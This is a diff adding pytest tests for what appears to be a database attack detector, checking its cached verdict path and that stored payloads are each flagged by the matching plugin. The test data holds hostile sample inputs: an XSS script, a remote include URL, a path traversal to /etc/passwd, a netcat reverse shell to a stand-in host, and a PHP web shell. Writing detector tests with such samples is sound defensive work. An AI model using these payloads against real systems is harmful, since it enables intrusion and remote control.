@@ -641,6 +641,101 @@ def test_l1_hit_budget(monkeypatch, counted_locks):
     assert counts == Counter()
 
 
+def _python_calls(septic, context):
+    """Names of the Python-level functions *septic*'s hook calls for
+    *context*, at any depth (``sys.setprofile`` sees every Python frame
+    entered; a C call is not one)."""
+    calls = []
+
+    def profile(frame, event, _arg):
+        if event == "call":
+            calls.append(frame.f_code.co_name)
+
+    sys.setprofile(profile)
+    try:
+        septic.process_query(context)
+    finally:
+        sys.setprofile(None)
+    assert calls[0] == "process_query"
+    return calls[1:]
+
+
+def test_a_hit_is_one_frame_and_its_check():
+    """The hit is the verdict check plus, where the verdict names slots,
+    the plugins' look at this execution's strings: two calls at most,
+    nothing of the store, the breaker or the register (at 5f6d18d the
+    hit also called ``QMStore.serves``, ``CircuitBreaker.quiescent`` and
+    ``SepticLogger.skip``)."""
+    septic, database, _conn = _stack()
+    for sql, expected in ((SELECT, ["_verdict_holds"]),
+                          (UPDATE, ["_verdict_holds", "_inspect_inputs"])):
+        text = database.pipeline_cache.probe("utf8", sql,
+                                             database.schema_version)
+        entry = text.entry
+        context = QueryContext(text.decoded, entry.statements[0],
+                               entry.stack, entry.comments, database,
+                               memo=entry.septic_memo, values=text.values)
+        sequence = septic.logger._sequence
+        assert _python_calls(septic, context) == expected
+        assert septic.logger._sequence == sequence + 5
+
+
+#: one payload per default plugin, in plugin order; each is flagged by
+#: its own plugin alone, so every plugin before it reads it and passes
+_STORED_PAYLOADS = ["<script>alert(1)</script>",
+                    "http://evil.example/shell.txt?",
+                    "../../../../etc/passwd",
+                    "x | nc evil.example 4444 -e /bin/sh",
+                    "<?php system($_GET[1]); ?>"]
+_WARM_WRITES = {
+    "INSERT": "/* septic:memo:3 */ INSERT INTO t VALUES (%d, '%s', 5)",
+    "UPDATE": "/* septic:memo:2 */ UPDATE t SET b = '%s' WHERE a = %d",
+}
+
+
+def _warm_write(kind, value, key):
+    template = _WARM_WRITES[kind]
+    return template % ((key, value) if kind == "INSERT" else (value, key))
+
+
+@pytest.mark.parametrize("payload", _STORED_PAYLOADS)
+@pytest.mark.parametrize("kind", sorted(_WARM_WRITES))
+def test_a_stored_payload_on_a_warm_shape_is_decided_by_the_check(
+        monkeypatch, full_runs, kind, payload):
+    """The verdict holds and the check's plugins flag the value: that
+    detection is the one the full run would report, so no full run —
+    no ``receive``, no comparison — and each plugin reads each value
+    once (at 5f6d18d the full run ran the plugins a second time)."""
+    septic, _database, conn = _stack()
+    septic.mode = Mode.TRAINING
+    assert conn.query(_warm_write("INSERT", "trained", 100)).ok
+    septic.mode = Mode.PREVENTION
+    for key in (101, 102):               # the second one hits
+        assert conn.query(_warm_write(kind, "plain note", key)).ok
+    assert _runs(full_runs, conn, _warm_write(kind, "plain again",
+                                              103)) == 0
+    counts = Counter()
+    _count_calls(monkeypatch, counts, AttackDetector, "detect_sqli")
+    inspected = Counter()
+    for plugin in septic.detector.plugins:
+        def counting(value, plugin=plugin, inspect=plugin.inspect):
+            inspected[plugin.name, value] += 1
+            return inspect(value)
+        monkeypatch.setattr(plugin, "inspect", counting)
+    before = full_runs["receive"]
+    outcome = conn.query(_warm_write(kind, payload, 104))
+    assert isinstance(outcome.error, QueryBlocked)
+    assert full_runs["receive"] == before
+    assert counts == Counter()
+    names = [plugin.name for plugin in septic.detector.plugins]
+    flagger = _STORED_PAYLOADS.index(payload)
+    assert inspected == Counter(
+        (name, payload) for name in names[:flagger + 1])
+    assert septic.stats.stored_detected == 1
+    assert septic.logger.attacks[-1].detail.endswith(
+        "flagged by %s" % names[flagger])
+
+
 def test_stored_injection_plugins_still_see_every_new_value():
     """The memo remembers shapes, never values: an UPDATE of a known
     shape with a payload in its data is still caught."""
